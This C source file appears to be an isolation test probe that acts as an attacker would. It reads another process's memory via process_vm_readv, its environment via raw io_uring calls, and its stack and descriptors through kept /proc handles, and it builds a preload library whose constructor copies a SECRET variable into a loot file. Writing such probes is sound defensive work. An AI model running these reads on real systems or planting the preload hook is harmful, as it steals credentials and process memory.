/* What an attacker does by calls that no shell has: process_vm_readv(2), io_uring, a directory of /proc that is kept. Built
 * with -DPRELOAD it is a library that a parent has its programs load. What is got goes to standard output. */

#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#ifdef PRELOAD

__attribute__((constructor)) static void loaded(void)
{
    const char *secret = getenv("SECRET");
    int loot = secret ? open(LOOT, O_WRONLY | O_CREAT | O_APPEND, 0600) : -1;
    if (loot >= 0 && write(loot, secret, strlen(secret)) > 0)
        close(loot);
}

#else

static char buffer[1 << 20];

static void show(int descriptor)
{
    ssize_t got;
    while (descriptor >= 0 && (got = read(descriptor, buffer, sizeof buffer)) > 0)
        fwrite(buffer, 1, got, stdout);
}

/* Where the mappings cannot be listed, an address that no program has: who may not read is told so before that is seen. */
static void vm(pid_t pid)
{
    char name[64], line[512];
    snprintf(name, sizeof name, "/proc/%d/maps", pid);
    FILE *maps = fopen(name, "r");
    unsigned long start = 0, end = 0;
    char readable = 0;
    while (maps && fgets(line, sizeof line, maps)) {
        if (sscanf(line, "%lx-%lx %c", &start, &end, &readable) != 3 || readable != 'r' || strstr(line, "[v"))
            continue;
        for (; start < end; start += sizeof buffer) {
            struct iovec to = { buffer, end - start < sizeof buffer ? end - start : sizeof buffer };
            struct iovec from = { (void *)start, to.iov_len };
            ssize_t got = process_vm_readv(pid, &to, 1, &from, 1, 0);
            if (got > 0)
                fwrite(buffer, 1, got, stdout);
        }
    }
    struct iovec to = { buffer, 1 }, from = { (void *)1, 1 };
    process_vm_readv(pid, &to, 1, &from, 1, 0);
    perror("process_vm_readv");
}

/* One entry of a ring, its result. */
static int submit(int ring, unsigned char *submissions, unsigned char *completions, struct io_uring_params *p,
                  struct io_uring_sqe *entries, struct io_uring_sqe entry)
{
    unsigned *tail = (unsigned *)(submissions + p->sq_off.tail);
    unsigned mask = *(unsigned *)(submissions + p->sq_off.ring_mask);
    entries[*tail & mask] = entry;
    ((unsigned *)(submissions + p->sq_off.array))[*tail & mask] = *tail & mask;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
        return -1;
    unsigned *head = (unsigned *)(completions + p->cq_off.head);
    mask = *(unsigned *)(completions + p->cq_off.ring_mask);
    int result = ((struct io_uring_cqe *)(completions + p->cq_off.cqes))[*head & mask].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    return result;
}

static void uring(pid_t pid)
{
    struct io_uring_params p = { 0 };
    int ring = syscall(SYS_io_uring_setup, 2, &p);
    if (ring < 0) {
        perror("io_uring_setup");
        exit(3);
    }
    int flags = MAP_SHARED | MAP_POPULATE, both = PROT_READ | PROT_WRITE;
    void *submissions = mmap(0, p.sq_off.array + p.sq_entries * 4, both, flags, ring, IORING_OFF_SQ_RING);
    void *completions =
        mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), both, flags, ring, IORING_OFF_CQ_RING);
    void *entries = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), both, flags, ring, IORING_OFF_SQES);
    char name[64];
    snprintf(name, sizeof name, "/proc/%d/environ", pid);
    struct io_uring_sqe open_it = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (unsigned long)name };
    int file = submit(ring, submissions, completions, &p, entries, open_it);
    struct io_uring_sqe read_it = {
        .opcode = IORING_OP_READ, .fd = file, .addr = (unsigned long)buffer, .len = sizeof buffer,
    };
    int got = file < 0 ? file : submit(ring, submissions, completions, &p, entries, read_it);
    if (got > 0)
        fwrite(buffer, 1, got, stdout);
    fprintf(stderr, "io_uring: %d\n", got);
}

/* Opens directory, environment and memory at once, says so, and looks again when it is told to. */
static void keep(pid_t pid)
{
    char name[64], go;
    snprintf(name, sizeof name, "/proc/%d", pid);
    int directory = open(name, O_DIRECTORY), environment = openat(directory, "environ", O_RDONLY);
    int memory = openat(directory, "mem", O_RDONLY), descriptors = openat(directory, "fd", O_DIRECTORY);
    puts("ready");
    fflush(stdout);
    if (read(0, &go, 1) != 1)
        exit(2);
    show(environment);
    show(openat(directory, "environ", O_RDONLY));
    for (int number = 3; number < 32; number++) {
        snprintf(name, sizeof name, "%d", number);
        show(openat(descriptors, name, O_RDONLY | O_NONBLOCK));
    }
    /* The mappings as they are now, by the handle of before. */
    FILE *maps = fdopen(openat(directory, "maps", O_RDONLY), "r");
    unsigned long start, end;
    while (maps && fgets(buffer, sizeof buffer, maps))
        if (sscanf(buffer, "%lx-%lx r", &start, &end) == 2 && strstr(buffer, "[stack]")) {
            ssize_t got = pread(memory, buffer, end - start < sizeof buffer ? end - start : sizeof buffer, start);
            if (got > 0)
                fwrite(buffer, 1, got, stdout);
        }
}

int main(int count, char **words)
{
    pid_t pid = count == 3 ? atoi(words[2]) : 0;
    if (pid <= 0)
        return 2;
    if (!strcmp(words[1], "vm"))
        vm(pid);
    else if (!strcmp(words[1], "uring"))
        uring(pid);
    else if (!strcmp(words[1], "keep"))
        keep(pid);
    else
        return 2;
    return 0;
}

#endif
